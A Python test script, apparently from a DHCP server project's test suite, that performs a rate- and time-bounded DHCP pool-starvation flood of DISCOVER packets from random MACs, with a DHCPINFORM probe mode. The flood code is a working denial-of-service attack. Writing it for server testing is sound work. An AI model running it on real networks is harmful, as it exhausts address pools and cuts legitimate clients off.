#!/usr/bin/env python3
"""dhcp-flood.py: a bounded flood of DHCPDISCOVERs from random MACs.

The classic pool starvation attack, for pxed's tests (run it inside a
test network namespace): --count DISCOVERs, each from a new random
locally administered MAC 02:fd:xx:xx:xx:xx (and option 61 to match),
broadcast from port 68 on --iface, at most --rate a second, and never
for more than --seconds.  It sends only DISCOVERs: no REQUEST follows.
Prints "sent N in S s" and exits 0.  With --inform CIADDR it instead
sends one DHCPINFORM from CIADDR to --to and prints the reply's options
(code=hex), exiting 1 when none came within 5 s.
"""
import argparse
import os
import select
import socket
import struct
import sys
import time


def packet(mac, xid, typ, ciaddr=b"\0\0\0\0"):
    p = bytearray(240)
    p[0:4] = bytes((1, 1, 6, 0))
    p[4:8] = struct.pack("!I", xid)
    if typ == 1:
        p[10:12] = struct.pack("!H", 0x8000)
    p[12:16] = ciaddr
    p[28:34] = mac
    p[236:240] = bytes((99, 130, 83, 99))
    p += bytes((53, 1, typ))
    p += bytes((61, 7, 1)) + mac
    p += bytes((55, 4, 1, 3, 6, 51))
    p += bytes((255,))
    return bytes(p + bytes(max(0, 300 - len(p))))


def sock(iface):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    s.bind(("0.0.0.0", 68))
    return s


def options(area):
    out, i = {}, 0
    while i + 1 < len(area) and area[i] != 255:
        if area[i] == 0:
            i += 1
            continue
        out[area[i]] = bytes(area[i + 2:i + 2 + area[i + 1]])
        i += 2 + area[i + 1]
    return out


def inform(a):
    s = sock(a.iface)
    mac = bytes((2, 0xfe)) + os.urandom(4)
    xid = struct.unpack("!I", os.urandom(4))[0]
    host, port = a.to.rsplit(":", 1)
    s.sendto(packet(mac, xid, 8, socket.inet_aton(a.inform)),
             (host, int(port)))
    end = time.monotonic() + 5
    while time.monotonic() < end:
        r, _, _ = select.select([s], [], [], end - time.monotonic())
        if not r:
            break
        data, _ = s.recvfrom(4096)
        if len(data) > 240 and data[0] == 2 and data[4:8] == \
                struct.pack("!I", xid):
            o = options(data[240:])
            print("yiaddr=%s %s" % (socket.inet_ntoa(data[16:20]),
                  " ".join("%d=%s" % (k, o[k].hex()) for k in sorted(o))))
            return 0
    return 1


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--rate", type=int, default=1000)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--inform")
    ap.add_argument("--to", default="255.255.255.255:67")
    a = ap.parse_args()
    if a.inform:
        return inform(a)
    s = sock(a.iface)
    start = time.monotonic()
    sent = 0
    while sent < a.count and time.monotonic() - start < a.seconds:
        due = start + sent / a.rate
        if due > time.monotonic():
            time.sleep(due - time.monotonic())
        mac = bytes((2, 0xfd)) + os.urandom(4)
        s.sendto(packet(mac, struct.unpack("!I", os.urandom(4))[0], 1),
                 ("255.255.255.255", 67))
        sent += 1
    print("sent %d in %.1f s" % (sent, time.monotonic() - start))
    return 0


if __name__ == "__main__":
    sys.exit(main())
